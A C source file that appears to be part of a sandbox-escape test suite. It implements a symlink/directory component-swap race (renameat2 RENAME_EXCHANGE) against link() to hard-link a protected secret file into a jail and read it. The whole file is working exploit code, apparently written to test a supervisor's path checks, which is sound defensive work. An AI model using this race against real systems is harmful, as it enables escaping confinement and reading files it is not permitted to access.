/* e0205-component-swap-link - the directory-component swap of e0202,
 * against a path call other than open: link().
 *
 * Attack: "e0205-d" is a real directory holding a decoy named like the
 * secret, "e0205-s" a symbolic link to the secret's directory; a thread
 * swaps the two names (renameat2 RENAME_EXCHANGE) while another hard-links
 * "e0205-d/NAME" to "e0205-got" in the cwd and reads the link.  The
 * supervisor checks the path while e0205-d is the directory; the kernel
 * may walk it when e0205-d is the symlink, and link the secret itself
 * into the jail's tree (same file system).
 * Source: Garfinkel 2003, "Traps and Pitfalls" (races on path
 * components); doc/races.md ("Still open: the same component swap for the
 * other path calls").
 * Usage: e0205-component-swap-link SECRET */
#include <fcntl.h>
#include <libgen.h>
#include <limits.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "escape.h"

static volatile int stop;

static void *swapper(void *arg)
{
	(void)arg;
	while (!stop)
		syscall(SYS_renameat2, AT_FDCWD, "e0205-d", AT_FDCWD, "e0205-s", RENAME_EXCHANGE);
	return NULL;
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 2, "e0205-component-swap-link SECRET");
	char dir[PATH_MAX], base[PATH_MAX], decoy[PATH_MAX * 2];
	snprintf(dir, sizeof dir, "%s", argv[1]);
	snprintf(base, sizeof base, "%s", argv[1]);
	snprintf(decoy, sizeof decoy, "e0205-d/%s", basename(base));
	mkdir("e0205-d", 0755);
	unlink("e0205-s");
	unlink("e0205-got");
	if (symlink(dirname(dir), "e0205-s") < 0)
		esc_die("symlink");
	FILE *f = fopen(decoy, "w");
	if (!f)
		esc_die(decoy);
	fputs("decoy\n", f);
	fclose(f);
	pthread_t t;
	if (pthread_create(&t, NULL, swapper, NULL) != 0)
		esc_die("pthread_create");
	struct esc_race r;
	long linked = 0, refused = 0;
	bool got = false;
	char buf[512];
	esc_race_init(&r);
	while (!got && esc_race_go(&r)) {
		if (link(decoy, "e0205-got") < 0) {
			refused++;
			continue;
		}
		linked++;
		if (esc_read_file("e0205-got", buf, sizeof buf) >= 0 && strcmp(buf, "decoy\n") != 0) {
			buf[strcspn(buf, "\n")] = '\0';
			printf("read through the new link: read '%s'\n", buf);
			got = true;
		}
		unlink("e0205-got");
	}
	printf("link race: %ld tries, %ld linked, %ld refused\n", r.tries, linked, refused);
	stop = 1;
	pthread_join(t, NULL);
	return 0;
}
